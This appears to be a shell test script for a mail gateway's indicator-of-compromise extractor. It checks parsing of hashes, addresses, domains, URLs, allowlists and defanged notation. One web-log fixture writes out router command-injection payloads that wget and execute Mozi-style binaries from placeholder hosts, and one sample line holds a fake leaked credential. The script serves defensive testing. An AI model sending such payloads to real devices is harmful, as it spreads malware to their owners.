#!/bin/sh
# mailgw ioc extract against ninoseki/ioc-extractor's expected results
# (tests/data/corpus/ioc-extractor-ninoseki). Types both share, mapped:
#   md5s sha1s sha256s sha512s ipv4s domains -> md5 sha1 sha256 sha512
#   ipv4 domain, compared exactly;
#   ipv6s -> ipv6 in RFC 5952 form (theirs keep the zeros as written);
#   asns -> asn as "AS<n>" (their "ASN15169" is our AS15169);
#   urls -> url: all of theirs, and ours may add a URL whose host is an
#   IPv6 literal, which theirs do not extract, and a link written
#   without a scheme whose host the writer defanged, with a port or not
#   ("192[.]168[.]0[.]1:9090/url": one defangs what a reader could
#   click; theirs read a link only with its scheme), or whose path has
#   a second step ("192.168.0.1/some/url": where a loader fetches
#   from; the address alone to us until session 33). "/eth0", "/443"
#   (an ASA log's port) and the like follow addresses too: the
#   address alone to both;
#   btcs xmrs eths (wallets) and gaTrackIDs: not mailgw indicators.
# Deliberate: IDNs are domains to us (as A-labels), and e-mail addresses
# at IDN domains are addresses; ninoseki skips both.
. "${srcdir:-.}/tests/e2e/lib.sh"

C=$CORPUS/ioc-extractor-ninoseki
mg ioc extract "$C/input.txt" --json >"$TMP/ours.json"
ok "ioc extract --json on the corpus input" test -s "$TMP/ours.json"
ours() { "$JQ" -c --arg t "$1" '[.[] | select(.type == $t) | .value] | sort' "$TMP/ours.json"; }
theirs() { "$JQ" -c --arg k "$1" '.[$k] | sort' "$C/input.expected.json"; }

for pair in md5s:md5 sha1s:sha1 sha256s:sha256 sha512s:sha512 ipv4s:ipv4 domains:domain; do
	is "${pair#*:}: exactly theirs" "$(ours "${pair#*:}")" "$(theirs "${pair%:*}")"
done
is "ipv6: theirs in RFC 5952 form" "$(ours ipv6)" '["fdc4:2581:575b:5a72::1"]'
is "asn: theirs as AS<n>" "$(ours asn)" \
    "$(theirs asns | "$JQ" -c 'map(sub("^ASN?"; "AS")) | sort')"
is "url: all of theirs" \
    "$("$JQ" -c --argjson o "$(ours url)" '.urls - $o' "$C/input.expected.json")" '[]'
is "url: ours adds only the IPv6-literal one, the defanged links with a port and a loader's path" \
    "$("$JQ" -c --argjson t "$(theirs urls)" '[.[] | select(.type == "url") | .value] - $t' "$TMP/ours.json")" \
    '["http://[fdc4:2581:575b:5a72::1]:80/path","http://192.168.0.1/some/url","http://192.168.0.1:9090/url","http://192.188.0.1:9090/url"]'
is "private and public told apart" \
    "$("$JQ" -r '[.[] | select(.type == "ipv4") | .value + "=" + .class] | sort | join(" ")' "$TMP/ours.json")" \
    "123.123.123.123=public 192.168.0.1=private 192.188.0.1=public"
ok "defanged ones are marked" \
    "$JQ" -e '[.[] | select(.type == "ipv4" and .value == "192.188.0.1")][0].defanged' "$TMP/ours.json"

# Their "simple input" case.
"$JQ" -r '.cases[] | select(.id == "simple") | .input' "$C/simple.expected.json" >"$TMP/simple.txt"
mg ioc extract "$TMP/simple.txt" --json >"$TMP/simple.json"
s_ours() { "$JQ" -c --arg t "$1" '[.[] | select(.type == $t) | .value] | sort' "$TMP/simple.json"; }
s_theirs() { "$JQ" -c --arg k "$1" '.cases[] | select(.id == "simple") | .expected[$k] | sort' "$C/simple.expected.json"; }
for pair in md5s:md5 sha256s:sha256 ipv4s:ipv4; do
	is "simple, ${pair#*:}: exactly theirs" "$(s_ours "${pair#*:}")" "$(s_theirs "${pair%:*}")"
done
# Their example.com is the ASCII tail of テスト.example.com, which has no
# example.com of its own: we take the whole name, as A-labels.
is "simple, domain: theirs, with the IDN whole" "$(s_ours domain)" \
    '["google.com","www.google.com","xn--zckzah.example.com"]'
is "simple, url: theirs and the IDN one" "$(s_ours url)" \
    '["http://xn--zckzah.example.com","https://www.google.com"]'
is "simple, email at an IDN domain" "$(s_ours email)" '["test@xn--zckzah.example.com"]'

# The plain output, stdin, offsets, errors.
printf 'hxxp://evil[.]com/x 192.0.2.1 192.0.2.1\n' >"$TMP/t.txt"
is "text output: one line per distinct indicator, first seen first" \
    "$(mg ioc extract <"$TMP/t.txt" | tr '\t' ' ' | tr '\n' '|')" \
    "url http://evil.com/x|domain evil.com|ipv4 192.0.2.1|"
is "--with-offsets: every occurrence, offset and length in the input" \
    "$(mg ioc extract --with-offsets "$TMP/t.txt" | awk -F'\t' '{print $1, $3, $4}' | tr '\n' '|')" \
    "url 0 19|domain 7 10|ipv4 20 9|ipv4 30 9|"
printf 'blocklist: 45.33.32.156/32\nseen 45.33.32.156 and 2001:db8::9/128\n' >"$TMP/h.txt"
is "a /32 or a /128 is its host: one indicator with the bare address, counted twice" \
    "$(mg ioc extract --json "$TMP/h.txt" | $JQ -r '.[] | "\(.type) \(.value) \(.count)"' | tr '\n' '|')" \
    "ipv4 45.33.32.156 2|ipv6 2001:db8::9 1|"
is "--message on an HTML page: a script's, a handler's and a hidden mailto: link's targets, a shown address once" \
    "$(mg ioc extract --message --json "$TEST_DATA/html-hidden-targets.eml" | "$JQ" -r '.[] | "\(.type) \(.value) \(.count)"' | tr '\n' '|')" \
    "url https://stage2-login.top/verify 1|domain stage2-login.top 1|email support@secure-boc.top 1|email abuse@registrar.example.com 1|url https://collect-boc.top/p.php 1|domain collect-boc.top 1|url https://land-boc.top/x 1|domain land-boc.top 1|"
# A link without a scheme, and an address of the newer documentation
# prefix, as a partner's report writes them: through the binary, JSON.
printf 'phish at evil[.]com/verify?id=7 from 3fff::7\n' >"$TMP/s.txt"
is "a defanged link without a scheme: its URL, the class of 3fff::/20" \
    "$(mg ioc extract --json "$TMP/s.txt" | "$JQ" -r '.[] | [.type, .value, .class, .defanged] | join(" ")' | tr '\n' '|')" \
    "url http://evil.com/verify?id=7 public true|domain evil.com public true|ipv6 3fff::7 documentation false|"
# What would have mailed the wrong party, through the binary: a flow
# written with a dash (twelve /8s' networks), a registry's reverse zone
# (a domain for a registrar), an upgrade's start, a time with dots, an
# example's name and AS number (public).
printf '%s\n' 'flow 192.0.2.1-203.0.113.5' 'domain: 100.51.198.in-addr.arpa' \
    'Upgrade BIG-IP 17.1.0.3 to 17.1.1' 'at 2026.11.20 08.15.22.123' \
    'see c2.example.com, AS64500' >"$TMP/wrong.txt"
is "ranges across /8s, reverse zones, upgrades, times, examples" \
    "$(mg ioc extract --json "$TMP/wrong.txt" | "$JQ" -r '.[] | [.type, .value, .class] | join(" ")' | tr '\n' '|')" \
    "ipv4 192.0.2.1 documentation|ipv4 203.0.113.5 documentation|cidr 198.51.100.0/24 documentation|domain c2.example.com documentation|asn AS64500 documentation|"
is "... the offsets point at the input's bytes" \
    "$(mg ioc extract --with-offsets "$TMP/t.txt" | awk -F'\t' '$1 == "domain" {print $3, $4}' | { read -r o l; dd if="$TMP/t.txt" bs=1 skip="$o" count="$l" 2>/dev/null; })" \
    "evil[.]com"
printf 'Contact: noc AT evil-isp DOT net\n' >"$TMP/at.txt"
is "an address spelled with AT and DOT: its offset and length in the input" \
    "$(mg ioc extract --with-offsets "$TMP/at.txt" | awk -F'\t' '{print $1, $2; print $3, $4}' | { read -r k v; read -r o l; printf '%s %s|' "$k" "$v"; dd if="$TMP/at.txt" bs=1 skip="$o" count="$l" 2>/dev/null; })" \
    "email noc@evil-isp.net|noc AT evil-isp DOT net"
mg ioc extract "$TMP/missing.txt" >/dev/null 2>&1; rc=$?
is "a missing file: exit 66" "$rc" 66
mg ioc frobnicate >/dev/null 2>&1; rc=$?
is "an unknown subcommand: exit 64" "$rc" 64
# (Under LeakSanitizer, anything a usage error left allocated would
# change the exit status.)
mg ioc extract a b >/dev/null 2>&1; rc=$?
is "two files: exit 64" "$rc" 64
mg ioc extract --json --with-offsets >/dev/null 2>&1 </dev/null; rc=$?
is "--json and --with-offsets: exit 64" "$rc" 64

# The allowlist: kept, shown, never to be notified.
write_config "$TMP/al.conf"
printf '[ioc]\nallowlist = 8.8.8.8, 192.0.2.0/24 partner.com\nallowlist = AS15169\n' >>"$TMP/al.conf"
printf 'x 8.8.8.8 8.8.4.4 192.0.2.9 www.partner.com evilpartner.com AS15169 AS4134 cdn.cert.example.com a@cert.example.com\n' >"$TMP/al.txt"
is "allowlisted ones marked, the others not" \
    "$("$MAILGW" -c "$TMP/al.conf" ioc extract --json "$TMP/al.txt" | "$JQ" -r '[.[] | .value + (if .allowlisted then "+" else "-" end)] | join(" ")')" \
    "8.8.8.8+ 8.8.4.4- 192.0.2.9+ www.partner.com+ evilpartner.com- AS15169+ AS4134- cdn.cert.example.com- a@cert.example.com-"
sed -i 's/^address = .*/address = cert@cert.example.com/' "$TMP/al.conf"
is "our own domain is always on it" \
    "$("$MAILGW" -c "$TMP/al.conf" ioc extract --json "$TMP/al.txt" | "$JQ" -r '[.[] | select(.allowlisted) | .value] | join(" ")')" \
    "8.8.8.8 192.0.2.9 www.partner.com AS15169 cdn.cert.example.com a@cert.example.com"
is "contrib's example: resolvers, the services reports link to, Office 365's hops and free mail marked, the report's hosts not" \
    "$(printf '%s\n' 'https://www.virustotal.com/gui/file/x 8.8.8.8' \
    'https://urlhaus.abuse.ch/url/1/ evil-host.com' \
    'Received: from DM6PR11MB1234.namprd11.prod.outlook.com (10.1.2.3) by' \
    ' SJ0PR11MB5678.namprd11.prod.outlook.com (10.1.2.4) with SMTP' \
    'Received: from mail.evil-host.com (mail.evil-host.com [203.0.113.9])' \
    ' by BN8NAM11FT012.mail.protection.outlook.com (10.1.2.5)' \
    'DKIM-Signature: v=1; a=rsa-sha256; d=gmail.com; s=20230601' |
    "$MAILGW" -c "${srcdir:-.}/contrib/mailgw.conf.example" ioc extract --json |
    "$JQ" -r '[.[] | .value + (if .allowlisted then "+" else "-" end)] | join(" ")')" \
    "https://www.virustotal.com/gui/file/x+ www.virustotal.com+ 8.8.8.8+ https://urlhaus.abuse.ch/url/1/+ urlhaus.abuse.ch+ evil-host.com- dm6pr11mb1234.namprd11.prod.outlook.com+ 10.1.2.3- mail.evil-host.com- 203.0.113.9- gmail.com+"
printf '# resolvers\n1.1.1.1\n\n9.9.9.9  # quad9\n' >"$TMP/allow.txt"
printf '[ioc]\nallowlist_file = %s\n' "$TMP/allow.txt" >>"$TMP/al.conf"
is "allowlist_file entries too" \
    "$(echo "1.1.1.1 9.9.9.9 1.0.0.1" | "$MAILGW" -c "$TMP/al.conf" ioc extract --json | "$JQ" -r '[.[] | select(.allowlisted) | .value] | join(" ")')" \
    "1.1.1.1 9.9.9.9"
awk 'BEGIN { for (i = 0; i < 20000; i++) printf "partner%d.com\n10.%d.%d.0/24\n", i, i % 256, int(i / 256) }' >"$TMP/allow.txt"
echo "x www.partner19999.com partner20000.com 10.77.3.9 10.77.100.1 partner0.com.evil.org" |
    "$MAILGW" -c "$TMP/al.conf" ioc extract --json >"$TMP/al.json"
is "an allowlist_file of 40,000 names and networks: the right ones marked" \
    "$("$JQ" -r '[.[] | .value + (if .allowlisted then "+" else "-" end)] | join(" ")' "$TMP/al.json")" \
    "www.partner19999.com+ partner20000.com- 10.77.3.9+ 10.77.100.1- partner0.com.evil.org-"
printf '10.0.0.0/99\n' >"$TMP/allow.txt"
"$MAILGW" -c "$TMP/al.conf" ioc extract "$TMP/al.txt" >/dev/null 2>"$TMP/err"; rc=$?
is "a bad allowlist entry: exit 78" "$rc" 78
is "... naming file and line" "$(cat "$TMP/err")" \
    "mailgw: allowlist $TMP/allow.txt:1: not a domain, address, network or AS number: '10.0.0.0/99'"

# Templates are code, not hosts: the mustache spec's "{{person.name}}"
# and "{{a.b.c.name}}" (.name is a real suffix) give no domain.
is "the mustache spec's template variables: no domain" \
    "$(mg ioc extract "${srcdir:-.}/tests/data/corpus/mustache-spec/specs/interpolation.json" | grep -c '^domain')" 0

is "a style sheet's selectors (a.black {): no domain" \
    "$(mg ioc extract "${srcdir:-.}/tests/data/corpus/kde-mimetreeparser/testdata/mailheader.css" | grep -c '^domain')" 0
is "a document's field names (Report.Date): no domain" \
    "$(mg ioc extract "${srcdir:-.}/tests/data/corpus/xarf/v4-spec/samples/v3/README.md" | grep -c '^domain')" 0

# A large input streams: the same indicators found across chunk edges.
awk 'BEGIN { for (i = 0; i < 60000; i++) printf "line %d host 203.0.113.%d evil%d[.]com\n", i, i % 250, i % 1000 }' >"$TMP/big.txt"
is "3 MB input: every distinct indicator found across chunks" \
    "$(mg ioc extract "$TMP/big.txt" | wc -l | tr -d ' ')" 1250
# A line longer than 1 MB (a JSON feed or a CSV with CR line ends read
# as one) is cut after a blank between two words, never inside what is
# written with blanks ("evil5 dot com", "ASN 4134", "CVE 2024-1234"): the
# same indicators as the same records on lines of their own. Cut at the
# 1 MB byte instead, the first cut falls inside a record.
awk 'BEGIN { for (i = 0; i < 50000; i++) printf "rec%d evil%d dot com, ASN %d and CVE 2024-%d at 203.0.113.%d; ", i, i % 3000, 64512 + i % 900, 10000 + i % 4000, i % 250 }' >"$TMP/oneline.txt"
tr ';' '\n' <"$TMP/oneline.txt" >"$TMP/lines.txt"
mg ioc extract --jobs 1 "$TMP/lines.txt" | sort >"$TMP/lines.out"
# A message's text longer than 2 MB is read in parts cut the same ways
# (its records on lines, then the same on one line): what the same text
# gives as a file.
{
	printf 'From: a@example.org\nSubject: scan\nMessage-ID: <big@example.org>\n'
	printf 'Content-Type: text/plain\n\n'
	cat "$TMP/lines.txt" "$TMP/oneline.txt"
} >"$TMP/big.eml"
cat "$TMP/lines.txt" "$TMP/oneline.txt" >"$TMP/big-text.txt"
mg ioc extract --jobs 1 "$TMP/big-text.txt" | sort >"$TMP/big-text.out"
is "a 7 MB message: read in parts, what its text gives as a file" \
    "$(mg ioc extract --message "$TMP/big.eml" | sort | cmp - "$TMP/big-text.out" && wc -l <"$TMP/big-text.out" | tr -d ' ')" 8150
for j in 1 2; do
	mg ioc extract --jobs $j "$TMP/oneline.txt" | sort >"$TMP/oneline.out"
	is "a 3.6 MB line, --jobs $j: cut between words, what its records give on lines" \
	    "$(cmp "$TMP/oneline.out" "$TMP/lines.out" && wc -l <"$TMP/lines.out" | tr -d ' ')" 8150
done
# A file is bytes: a URL with some that are not UTF-8 is reported in the
# text output as it is, and in JSON (UTF-8 only) with U+FFFD, never
# dropped.
printf 'see http://evil.com/a\377\376b and 1.2.3.4\n' >"$TMP/raw.txt"
is "bytes that are not UTF-8 in a URL: text as they are" \
    "$("$MAILGW" ioc extract "$TMP/raw.txt" | grep -c "^url	http://evil.com/a$(printf '\377\376')b$")" 1
is "... JSON with U+FFFD, the URL not dropped" \
    "$("$MAILGW" ioc extract --json "$TMP/raw.txt" | "$JQ" -r '[.[] | .type + " " + .value] | join(", ")')" \
    "url http://evil.com/a��b, domain evil.com, ipv4 1.2.3.4"
# A link a mail filter wrapped gives its target, found where it is.
printf 'see https://eu.safelinks.protection.outlook.com/?url=%s&data=1\n' \
    'https%3A%2F%2Fwrapped-evil.com%2Fx' >"$TMP/wrapped.txt"
is "a SafeLinks wrapper: its target found, at the wrapper's offset" \
    "$(mg ioc extract --with-offsets "$TMP/wrapped.txt" |
    grep '	[a-z:/]*wrapped-evil' | tr '\t' ' ' | paste -sd, -)" \
    "url https://wrapped-evil.com/x 4 90,domain wrapped-evil.com 4 90"
# A report as downloaded, gzipped: read as the text it inflates to.
gzip -c "$TMP/big.txt" >"$TMP/big.txt.gz"
is "a gzip file: the indicators of its text" \
    "$(mg ioc extract "$TMP/big.txt.gz" | cksum)" \
    "$(mg ioc extract "$TMP/big.txt" | cksum)"
is "... on standard input too" "$(mg ioc extract <"$TMP/big.txt.gz" | cksum)" \
    "$(mg ioc extract "$TMP/big.txt" | cksum)"
head -c 3000 "$TMP/big.txt.gz" >"$TMP/cut.gz"
"$MAILGW" ioc extract "$TMP/cut.gz" >"$TMP/cut.out" 2>"$TMP/cut.err"
is "one that breaks off: 65, one line, no indicator printed" \
    "$? $(wc -l <"$TMP/cut.err") $(wc -l <"$TMP/cut.out")" "65 1 0"
printf '\037\213\010\000\000\000\000\000\000\003garbage-garbage' \
    >"$TMP/bad.gz"
"$MAILGW" ioc extract "$TMP/bad.gz" 2>"$TMP/bad.err"
is "a corrupt one: 65, and zlib's reason in words" \
    "$? $(grep -c '^mailgw: ioc extract: .*/bad.gz: [a-z][a-z ]*$' \
    "$TMP/bad.err")" "65 1"
is "an address range: its networks, at the range's place" \
    "$(printf 'hosts 198.51.100.4-198.51.100.10; IP段 58.16.7.1-254\n' |
    "$MAILGW" ioc extract --with-offsets)" \
    "$(printf 'cidr\t198.51.100.4/30\t6\t26\ncidr\t198.51.100.8/31\t6\t26
ipv4\t198.51.100.10\t6\t26\ncidr\t58.16.7.0/24\t40\t13')"
# A long input is read by several threads (--jobs; default: the
# processors, two at most), part by part: the same list as one thread
# reads, same order, counts and first offsets, the input being every
# file of tests/data twice over (5 MB: parts of 128 KB).
find "$TEST_DATA" -type f -size -4M | sort | xargs cat >"$TMP/all.txt"
cat "$TMP/all.txt" "$TMP/all.txt" >"$TMP/all2.txt"
mg ioc extract --jobs 1 --json "$TMP/all2.txt" >"$TMP/j1.json"
is "--jobs 3: what one thread gives, in JSON with counts and offsets" \
    "$(mg ioc extract --jobs 3 --json "$TMP/all2.txt" | cksum)" \
    "$(cksum <"$TMP/j1.json")"
is "... and by default" "$(mg ioc extract --json "$TMP/all2.txt" | cksum)" \
    "$(cksum <"$TMP/j1.json")"
ok "... which is not nothing" test "$("$JQ" length "$TMP/j1.json")" -gt 1000
gzip -c "$TMP/all2.txt" >"$TMP/all2.txt.gz"
is "... gzipped on standard input too" \
    "$(mg ioc extract --jobs 2 --json <"$TMP/all2.txt.gz" | cksum)" \
    "$(cksum <"$TMP/j1.json")"
head -c "$(($(wc -c <"$TMP/all2.txt.gz") * 3 / 4))" "$TMP/all2.txt.gz" \
    >"$TMP/all2-cut.gz"
mg ioc extract --jobs 2 "$TMP/all2-cut.gz" >"$TMP/cut2.out" 2>"$TMP/cut2.err"
is "... one that breaks off after the threads started: 65, said, no output" \
    "$? $(grep -c 'all2-cut.gz: the gzip data breaks off$' "$TMP/cut2.err") $(wc -l <"$TMP/cut2.out")" \
    "65 1 0"
# Reports as analysts write them: the binary gives
# what is meant, and nothing a version, a section or a name only looks
# like.
printf '%s\n' 'Seen by AS13335. ASN: 4134; see https://nvd.nist.gov/vuln/detail/CVE-2024-3094' \
    'PTR 7.100.51.198.in-addr.arpa, link http://2130706433/x, evil\.com' \
    'Tool: Version 1.8 (1.8.2.5), section 3.2.1.4, 198.51.100.7.nip.io' \
    >"$TMP/analyst.txt"
is "analysts' writing: meant indicators, no versions or numbering" \
    "$(mg ioc extract "$TMP/analyst.txt" | tr '\t' : | paste -sd' ' -)" \
    "asn:AS13335 asn:AS4134 \
url:https://nvd.nist.gov/vuln/detail/CVE-2024-3094 domain:nvd.nist.gov \
cve:CVE-2024-3094 ipv4:198.51.100.7 url:http://127.0.0.1/x \
ipv4:127.0.0.1 domain:evil.com domain:198.51.100.7.nip.io"

# More as reports are written: a WHOIS record, a DNS pair, a leaked
# list, spaced defanging, an open redirect, JSON, a checksum line, a
# browser's version, Chinese versions and lists, an Android app, a MISP
# export's CSV row, a list of URLs, a sum in Portuguese, tcpdump, an
# ASA's log, an advisory. The session 18's first binary (f3a3a37) gave the two ends
# of the range,
# 8.8.8.8/8, no address of the list, nothing of "evil [.] com", the
# redirect's host alone, no JSON URL, Payload.app, 120.0.0.0, 1.2.3.4,
# 2.1.0.5 and com.example.app. Session 19's (31a1fd2) read a CSV row's
# next fields into its URL, one URL and the next as one (no b.evil.de),
# a sum, 2.100.000.000, as the address 2.100.0.0, and nothing of a
# tcpdump line's addresses (a memcached reflector's and its victim's),
# a Cisco ASA's port 22 as the network 10.0.0.6/22, and an advisory's
# versions 2.0.0.9, 4.1.0.3 and 4.1.0.4 as addresses.
cat >"$TMP/reports.txt" <<'TXT'
inetnum:        192.0.2.0 - 192.0.2.255
DNS 8.8.8.8/8.8.4.4
victim@bank.com:Passw0rd!
C2 at evil [.] com
https://t.example.net/go?next=https://phish.top/login
{"url":"http:\/\/evil.org\/gate.php"}
MD5 (Payload.app) = d41d8cd98f00b204e9800998ecf8427e
Chrome 120.0.0.0
版本 1.2.3.4，固件版本号：2.1.0.5；恶意IP列表 198.51.100.7
com.example.app
5f1f,12,url,hxxp://c2[.]evil[.]net/gate.php,,1,1700000000
http://a.evil.cn/x,http://b.evil.de/y
Perdas de R$ 2.100.000.000
08:00:01.5 IP 192.0.2.77.11211 > 198.51.100.99.80: UDP, length 1400
%ASA-4-106023: Deny tcp src outside:203.0.113.66/4444 dst inside:10.0.0.6/22
Affected: versions 2.0.0.1 through 2.0.0.9; fixed in 4.1.0.3, upgrade to 4.1.0.4.
TXT
is "more reports' writing: what they mean, nothing they do not" \
    "$(mg ioc extract "$TMP/reports.txt" | tr '\t' : | paste -sd' ' -)" \
    "cidr:192.0.2.0/24 ipv4:8.8.8.8 ipv4:8.8.4.4 \
email:victim@bank.com domain:evil.com \
url:https://t.example.net/go?next=https://phish.top/login \
domain:t.example.net url:http://evil.org/gate.php domain:evil.org \
md5:d41d8cd98f00b204e9800998ecf8427e ipv4:198.51.100.7 \
url:http://c2.evil.net/gate.php domain:c2.evil.net \
url:http://a.evil.cn/x domain:a.evil.cn url:http://b.evil.de/y \
domain:b.evil.de ipv4:192.0.2.77 ipv4:198.51.100.99 \
ipv4:203.0.113.66 ipv4:10.0.0.6 \
url:https://phish.top/login domain:phish.top"

# A scan's list of engines and what each named the sample, pasted into
# a report: Kaspersky's variants are letters that are ccTLDs. The
# session 33 binary (b7a93e6) gave six domains (trojan-spy.win32.agent.co
# ...), a URL of F-Secure's, none of the CVE ids and no digest of the
# sample's page.
cat >"$TMP/engines.txt" <<'TXT'
https://www.virustotal.com/gui/file/3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea/detection
Detections: 9/72. Contacts hxxp://upd.evil-cdn[.]net/gate.php
Kaspersky     HEUR:Trojan-Spy.Win32.Agent.co
Kaspersky     Backdoor.Linux.Gafgyt.bj
Kaspersky     Exploit.MSOffice.CVE-2017-11882.gen
ESET-NOD32    Win32/Exploit.CVE-2017-11883.A
Microsoft     Trojan:Win32/Emotet.ME!MTB
Ikarus        Trojan-Downloader.VBS.Agent.al
Tencent       Win32.Trojan.Agent.Ws
F-Secure      Trojan.TR/Crypt.XPACK.Gen
Zillya        HackTool.Win32.Mimikatz.at
TXT
is "an engines' list: the sample, its C2, the flaws; no detection name" \
    "$(mg ioc extract "$TMP/engines.txt" | tr '\t' : | paste -sd' ' -)" \
    "url:https://www.virustotal.com/gui/file/3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea/detection \
domain:www.virustotal.com \
sha256:3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea \
url:http://upd.evil-cdn.net/gate.php domain:upd.evil-cdn.net \
cve:CVE-2017-11882 cve:CVE-2017-11883"

# A web server's log of exploit attempts (nginx's JSON access log), as a
# hosting provider reports a compromised or attacking host: the
# download URLs inside the encoded requests, not the commands around
# them. The session 33 binary
# (b7a93e6) gave http://198.51.100.66/arm7;chmod%20777%20arm7;./arm7),
# http://198.51.100.67:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&...
# and nothing of the percent-encoded link.
cat >"$TMP/exploits.log" <<'TXT'
{"time":"2026-11-24T10:00:03+00:00","remote_addr":"203.0.113.10","request":"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;%20wget%20http://198.51.100.66/arm7;chmod%20777%20arm7;./arm7) HTTP/1.1","status":400,"body_bytes_sent":157,"http_referer":"http://192.0.2.80/cgi-bin/luci/","http_user_agent":"Go-http-client/1.1"}
{"time":"2026-11-24T10:00:04+00:00","remote_addr":"203.0.113.11","request":"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.67:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0","status":404,"body_bytes_sent":153,"http_referer":"http://192.0.2.80/setup.cgi","http_user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"}
{"time":"2026-11-24T10:00:05+00:00","remote_addr":"203.0.113.12","request":"POST /cgi-bin/x.cgi?cmd=wget%20http%3A%2F%2F198.51.100.68%2Fbins%2Fx86%20-O%20-%7Csh HTTP/1.1","status":404,"body_bytes_sent":153,"http_referer":"http://192.0.2.80/cgi-bin/x.cgi","http_user_agent":"python-requests/2.31.0"}
TXT
is "exploit attempts in a web log: the attackers, the download URLs and their hosts, the referring pages" \
    "$(mg ioc extract "$TMP/exploits.log" | tr '\t' : | paste -sd' ' -)" \
    "ipv4:203.0.113.10 url:http://198.51.100.66/arm7 ipv4:198.51.100.66 \
url:http://192.0.2.80/cgi-bin/luci/ ipv4:192.0.2.80 \
ipv4:203.0.113.11 url:http://198.51.100.67:8088/Mozi.m ipv4:198.51.100.67 \
url:http://192.0.2.80/setup.cgi \
ipv4:203.0.113.12 url:http://192.0.2.80/cgi-bin/x.cgi \
url:http://198.51.100.68/bins/x86 ipv4:198.51.100.68"

# A PGP signature whose BEGIN line ends the first part (the first 128
# KB, cut after its last line end) and whose header field starts the
# next: the next part starts inside the armor, and its Comment's URL is
# none of the report's, with one thread or two.
awk 'BEGIN { line = "The host kept scanning telnet across the provider range overnight.";
	for (n = 0; n + length(line) + 1 <= 131072 - 30; n += length(line) + 1)
		print line
	printf "%*s\n", 131072 - 30 - n - 1, "."
	print "-----BEGIN PGP SIGNATURE-----"
	print "Comment: https://keys.openpgp.org/k"
	print ""
	print "iHUEARYKAB0WIQTcjaQvZ5Gf3qHkmNqzAY5sfN7+9gUCZ0ABCDEF"
	print "=Ab1x"
	print "-----END PGP SIGNATURE-----"
	print "report 198.51.100.9" }' >"$TMP/armor.txt"
is "the BEGIN line ends the first 128 KB" \
    "$(head -c 131072 "$TMP/armor.txt" | tail -n 1)" \
    "-----BEGIN PGP SIGNATURE-----"
for j in 1 2; do
	is "armor across two parts, --jobs $j: only the report's address" \
	    "$(mg ioc extract --jobs "$j" "$TMP/armor.txt")" \
	    "$(printf 'ipv4\t198.51.100.9')"
done

# What this scanner read in session 24, through the binary: a tag's or
# Markdown's mark before an indicator, AS numbers with slashes, a login
# at an address, brackets that do not pair or hold blanks, <.> and [,];
# and what stays: a note's "[1].[2].[3].[4]", JSON's arrays, code's
# "f(x).(y)", an X.509 name's hex value.
cat >"$TMP/forms.txt" <<'EOF2'
Seen on #AS4134 and _AS4808_; exploits #CVE-2024-3094.
Carriers (AS4134/4837/9808) and AS3356/AS174 route c2[ . ]evil].[top.
sshd: Failed password for root@198.51.100.8 port 22
Drop hxxp://evil<.>org/x and mail[,]evil[.]net now.
See [1].[2].[3].[4], [10],[20],[30],[40] and f(x).(y).
Subject: E=#74657374406578616D706C652E636F6D,CN=Test
EOF2
is "marked words, AS lists, a login's address, looser defangs" \
    "$(mg ioc extract --json "$TMP/forms.txt" | "$JQ" -r '.[] |
        "\(.type):\(.value):\(.defanged)"' | paste -sd' ' -)" \
    "asn:AS4134:false asn:AS4808:false cve:CVE-2024-3094:false \
asn:AS4837:false asn:AS9808:false asn:AS3356:false asn:AS174:false \
domain:c2.evil.top:true ipv4:198.51.100.8:false url:http://evil.org/x:true \
domain:evil.org:true domain:mail.evil.net:true"

# Session 25's: a list of AS numbers before a country or an address,
# something before a slash and an AS number, names and addresses
# between slashes, a login at an IPv6 address; and a path that stays
# one.
cat >"$TMP/slashes.txt" <<'EOF2'
| CN/AS4134 | AS4837/9929/CN | AS9808/56040/198.51.100.20 |
C2 update.evil.com/203.0.113.21 (198.51.100.22/AS17621), evil[.]net/198.51.100[.]23
sshd: Accepted publickey for deploy@2001:db8::24 port 22
Fetched 198.51.100.25/index.html and www.evil.org/AS1234/index.html
EOF2
is "AS lists and slashes, names and addresses between slashes, an IPv6 login" \
    "$(mg ioc extract --json "$TMP/slashes.txt" | "$JQ" -r '.[] |
        "\(.type):\(.value):\(.defanged)"' | paste -sd' ' -)" \
    "asn:AS4134:false asn:AS4837:false asn:AS9929:false asn:AS9808:false \
asn:AS56040:false ipv4:198.51.100.20:false domain:update.evil.com:false \
ipv4:203.0.113.21:false ipv4:198.51.100.22:false asn:AS17621:false \
domain:evil.net:true ipv4:198.51.100.23:true ipv6:2001:db8::24:false \
url:http://198.51.100.25/index.html:false ipv4:198.51.100.25:false \
url:http://www.evil.org/AS1234/index.html:false domain:www.evil.org:false"

# Session 26's: a URL in angle brackets broken across lines (RFC 3986,
# appendix C) is read whole: in a reply's quote, with its offsets, in a
# message, and where the break falls at the end of the first 128 KB read.
printf '%s\n' '> Please take down <https://login.evil.com/account/' \
    '>   verify.php?id=77> today.' \
    'Not <https://e1.evil.org/x is down> nor <https://e2.evil.org/x' '' \
    ' y>.' >"$TMP/fold.txt"
is "a folded URL whole, in a quote; prose and a blank line left" \
    "$(mg ioc extract --with-offsets "$TMP/fold.txt")" \
    "$(printf '%s\t%s\t%s\t%s\n' \
        url https://login.evil.com/account/verify.php?id=77 20 52 \
        domain login.evil.com 28 14 url https://e1.evil.org/x 86 21 \
        domain e1.evil.org 94 11 url https://e2.evil.org/x 122 21 \
        domain e2.evil.org 130 11)"
is "... and not said to be defanged" \
    "$(mg ioc extract --json "$TMP/fold.txt" | "$JQ" -r '.[0] |
        "\(.value):\(.defanged)"')" \
    "https://login.evil.com/account/verify.php?id=77:false"
{ printf 'From: a@example.org\nTo: cert@example.net\nSubject: phish\n'
  printf 'Content-Type: text/plain\n\nSee <hxxps://pay.evil.com/a/\n'
  printf '   b.php> now.\n'; } >"$TMP/fold.eml"
is "... in a message, its scheme defanged" \
    "$(mg ioc extract --message --json "$TMP/fold.eml" | "$JQ" -r '.[] |
